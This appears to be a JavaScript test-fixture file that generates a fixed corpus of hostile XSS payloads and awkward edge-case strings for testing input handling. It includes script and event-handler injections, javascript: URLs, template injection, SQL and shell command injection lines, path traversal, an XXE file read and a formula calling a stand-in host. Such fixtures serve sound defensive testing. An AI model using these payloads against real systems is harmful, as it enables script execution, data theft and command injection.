// Texts that somebody could type, import or be sent to harm whoever reads them, made here from parts: 240 that would
// run something if they were ever read as markup, script, style, address or template, and 500 that are only awkward.
// Whatever runs calls canary, opens a dialog, or asks canary.invalid.

const CALL = 'canary(1)'
const CANARY = '//canary.invalid/'

/** Elements that run something by themselves once they stand in a page. */
const RUNS = [
  `<script>${CALL}</script>`, `<script src=${CANARY}a.js></script>`, `<script type=module>${CALL}</script>`, `<SCRIPT>${CALL}</ScRiPt >`, `<script/x>${CALL}</script>`, `<script\n>${CALL}</script\n>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, '<script>alert(1)//',
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `<IMG SRC=x OnErRoR=${CALL}>`, `<img src="${CANARY}a.png">`, `<img srcset="${CANARY}a.png 1x">`, `<img src=x onerror=alert(1)//`, `<img src=data:x onerror=${CALL}>`, '<image src=x onerror=canary(1)>',
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${CALL}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<svg><image href=x onerror=${CALL}></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text y=9>go</text></a></svg>`,
  `<video src=x onerror=${CALL}>`, `<video><source onerror=${CALL}>`, `<audio src=x onerror=${CALL}>`, `<video poster="${CANARY}p.jpg">`, `<video autoplay onloadstart=${CALL} src=data:video/mp4,>`, `<track src=${CANARY} default>`,
  `<iframe src="javascript:${CALL}">`, `<iframe srcdoc="<script>parent.${CALL}</script>">`, `<iframe src=${CANARY}>`, `<frameset onload=${CALL}>`, `<object data="javascript:${CALL}">`, `<object data=${CANARY}>`, `<embed src="javascript:${CALL}">`, `<embed src=${CANARY}a.swf>`, `<applet code=${CANARY}>`, `<portal src=${CANARY}>`, '<fencedframe>',
  `<body onload=${CALL}>`, `<html onclick=${CALL}>`, `<details open ontoggle=${CALL}>x</details>`, `<marquee onstart=${CALL}>x</marquee>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`, `<button autofocus onfocus=${CALL}>x</button>`, `<a autofocus tabindex=1 href=# onfocus=${CALL}>x</a>`, `<div contenteditable autofocus onfocus=${CALL}>x</div>`, `<dialog open onclose=${CALL}>x</dialog>`, `<style onload=${CALL}></style>`, `<link rel=stylesheet href=${CANARY}a.css onerror=${CALL}>`, `<link rel=prefetch href=${CANARY}>`, `<link rel=preconnect href=${CANARY}>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}">`, `<meta http-equiv=refresh content="0;javascript:${CALL}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<base href=${CANARY}>`, `<form action=${CANARY}><input type=submit></form>`, `<form><button formaction="javascript:${CALL}">x</button></form>`, `<isindex action=${CANARY}>`, `<math><maction actiontype="statusline#${CANARY}" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<plaintext>`, `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`, `<custom-element onclick=${CALL} style="animation:x" onanimationstart=${CALL}>`, `<x onpointerenter=${CALL} style=position:fixed;inset:0;z-index:9>x</x>`, `<p style="animation:spin 1s" onanimationend=${CALL}>x</p>`, `<div popover id=a onbeforetoggle=${CALL}>x</div><button popovertarget=a>y</button>`, `<slot onslotchange=${CALL}>`, `<div onscrollsnapchange=${CALL} style=overflow:scroll>`,
]
/** Ends of what a text could stand in, put before something that runs. */
const LEAVES = ['">', "'>", '>', '</title>', '</textarea>', '</script>', '</style>', '</template>', '</noscript>', '</iframe>', '-->', '--!>', ']]>', '*/', '`', '\\">', "\\'>", '" x="', '</option></select>', '</svg>', '</math>', '</xmp>', '"/>', '&quot;>', '%22%3E', '\n>', '"><!--', '<!--><', '?>', '//]]>']
/** Attributes and scripts that a text could be put into. */
const INSIDE = [
  `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus=${CALL} x="`, `" style="background:url(${CANARY})`, `";${CALL};"`, `';${CALL};'`, `\`;${CALL};\``, `\${${CALL}}`, `\\u0022;${CALL};//`, `\\";${CALL};//`, `</script><script>${CALL}</script>`, `\u2028${CALL}\u2029`, `-${CALL}-`, `"-${CALL}-"`, `'+${CALL}+'`, `);${CALL};(`, `}};${CALL};{{`, `*/${CALL}/*`, `\n${CALL}\n`, `0;${CALL}`,
  `{{constructor.constructor('${CALL}')()}}`, `{{${CALL}}}`, `{%${CALL}%}`, `<%= ${CALL} %>`, `#{${CALL}}`, `@{${CALL}}`, `[[${CALL}]]`, `{@html "<img src=x onerror=${CALL}>"}`, `{${CALL}}`, `{#if ${CALL}}x{/if}`, `\${{<%[%'"}}%\\.`, `{{.}}{{define "x"}}${CALL}{{end}}`, `{{template "x"}}`, `{{html .}}`, `{0}{n, plural, one {${CALL}} other {#}}`, `{name}`, `%s%n%x`, `$(${CALL})`, `\`${CALL}\``, `__proto__`, `constructor`, `toString`, `{"__proto__":{"onerror":"${CALL}"}}`,
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `javascript&colon;${CALL}`, `javascript://%0a${CALL}`, `\u0001javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `vbscript:${CALL}`, `feed:javascript:${CALL}`, `view-source:javascript:${CALL}`, `blob:${CANARY}`, `file:///etc/passwd`, `https:${CANARY}`, `${CANARY}`, `\\\\canary.invalid\\share`, `http://a@canary.invalid/`, `wails://evil/`,
  `background:url(${CANARY}a.png)`, `;background-image:url(${CANARY})`, `x{}body{background:url(${CANARY})}`, `@import "${CANARY}a.css";`, `expression(${CALL})`, `-moz-binding:url(${CANARY})`, `behavior:url(${CANARY})`, `</style><style>*{background:url(${CANARY})}`, `content:attr(x);}*{x:url(${CANARY})`, `\\3c script\\3e ${CALL}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\x3cscript\\x3e${CALL}`, `\\u003cimg src=x onerror=${CALL}\\u003e`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `＜script＞${CALL}＜/script＞`, `‹img src=x onerror=${CALL}›`, `<\u0000script>${CALL}`, `<img src=x one\u0000rror=${CALL}>`, `%253Cscript%253E`, `<![CDATA[<script>${CALL}</script>]]>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`, `<?php ${CALL} ?>`, `<!--#exec cmd="id"-->`, `[x](javascript:${CALL})`, `![x](${CANARY}a.png)`, `<javascript:${CALL}>`, `[a]: ${CANARY}`,
]

/** Every one is told from the others by a number at its end, so that it can be found again. */
const numbered = (list, mark) => list.map((text, i) => `${text} ${mark}${i}`)

export const HOSTILE = numbered([
  ...RUNS, ...INSIDE,
  ...LEAVES.map((end, i) => end + RUNS[(i * 7) % RUNS.length]),
  ...LEAVES.map((end, i) => `word ${end}${['<img src=x onerror=canary(1)>', '<svg onload=canary(1)>', '<script>canary(1)</script>'][i % 3]}`),
], 'h')

const repeat = (text, n) => text.repeat(n)
const mixed = (n, from, to, step) => Array.from({ length: n }, (_, i) => String.fromCodePoint(from + ((i * step) % (to - from)))).join('')
const SCRIPTS = [[0x05d0, 0x05ea], [0x0627, 0x064a], [0x0904, 0x0939], [0x0e01, 0x0e2e], [0x1100, 0x1112], [0x3041, 0x3096], [0x4e00, 0x9fa5], [0xac00, 0xd7a3], [0x10a0, 0x10c5], [0x13a0, 0x13f4], [0x1f300, 0x1f5ff], [0x1d400, 0x1d44f], [0x20000, 0x2a6d6], [0x0400, 0x044f], [0x0370, 0x03ff], [0x2800, 0x28ff]]
const BIDI = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u061c', '\u200e', '\u200f']
const HIDDEN = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u3164', '\u115f', '\u2800', '\u00a0', '\u2003', '\u3000', '\ufffc', '\ufffd']
const MARKS = ['\u0300', '\u0301', '\u0323', '\u0334', '\u0361', '\u0489', '\u20dd', '\u20e3']
const EMOJI = ['👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '🇩🇪🇯🇵', '👍🏿', '❤️‍🔥', '1️⃣', '🧑🏽‍🚀', '🫠', '☺︎', '👨‍👩‍👧‍👧👨‍👩‍👧‍👧']
const SYNTAX = ["' OR 1=1 --", "'; DROP TABLE clips; --", '1 UNION SELECT * FROM secrets', '" OR ""="', '\\', '\\\\', '\\n', '%', '%%', '_', '*', '?', '=1+1', '=HYPERLINK("//canary.invalid")', '+1', '-1', '@SUM(A1)', '\t=1', '|calc', 'a,b;c\td', '"a""b', '{}', '[]', 'null', 'undefined', 'NaN', 'true', 'Infinity', '0', '-0', '1e999', '0x10', '１２３', '../../etc/passwd', 'C:\\Windows', '/dev/null', 'CON', 'aux.mp4', '~', '$HOME', '${PATH}', '$(id)', '`id`', '| id', '; id', '& id', '> out', '#!/bin/sh', '-rf', '--help', '<!DOCTYPE html>', '&amp;amp;', '&notit;', '&#0;', '&#xD800;', '\u0000', 'a\u0000b', '\u0007', '\u001b[31mred\u001b[0m', '\u0008', '\u007f', '\u0085', 'a\rb', 'a\nb', 'a\r\nb', 'a\u2028b', 'a\u2029b', '\ud800', '\udc00x', '\ufffe', '\uffff', '\u{10ffff}', '\u{e0001}\u{e0041}', '.', '..', ' ', '   lead', 'trail   ', 'two  spaces', 'ﷺ', '﷽', 'İi̇ıI', 'ß ẞ ſ', 'ﬁ ﬀ', 'K K', 'Å Å Å', 'é é', '½ ¼ Ⅷ', 'О0oO', 'раураl', '①②③', '„“”‚‘’«»‹›', '— – ‐ ‑ −', '…', '•', '©®™', '→⇒', '§¶', '☃', '\u202egpj.exe', 'https://', 'a@b', 'mailto:a@b', 'tel:+1', '#hash #1', '@everyone', ':smile:', '**bold** _it_ `code`', '# head', '> quote', '- item', '| a | b |', '<b>', '</b>', '<>', '< >', '<3', '>_<', '&', '"', "'", '`']

/** 500 of them, the same each time. */
export const AWKWARD = numbered([
  ...SYNTAX,
  ...BIDI.flatMap(b => [`${b}abc`, `abc${b}def`, `${b}${b}${b}שלום world`, `(${b}) 12 ${b} 34`]),
  ...HIDDEN.flatMap(h => [`${h}`, `a${h}b`, repeat(h, 40)]),
  ...MARKS.flatMap(m => [`a${m}`, `z${repeat(m, 60)}algo`, m]),
  ...EMOJI.flatMap(e => [e, repeat(e, 30), `a${e}b`]),
  ...SCRIPTS.flatMap(([from, to]) => [mixed(5, from, to, 3), mixed(60, from, to, 7), `abc ${mixed(9, from, to, 5)} 123 ${mixed(4, from, to, 11)}`]),
  ...[255, 256, 300, 500, 1000].flatMap(n => [repeat('W', n), repeat('i ', n / 2), repeat('漢', n / 4), repeat('🧿', n / 8), repeat('a\u0301', n / 2)]),
  ...Array.from({ length: 200 }, (_, i) => `${mixed(3 + i % 9, ...SCRIPTS[i % SCRIPTS.length], 13)}${[...BIDI, ...HIDDEN, ...MARKS, ...EMOJI][(i * 5) % 44]}${SYNTAX[(i * 11) % SYNTAX.length]}`),
].slice(0, 500), 'a')
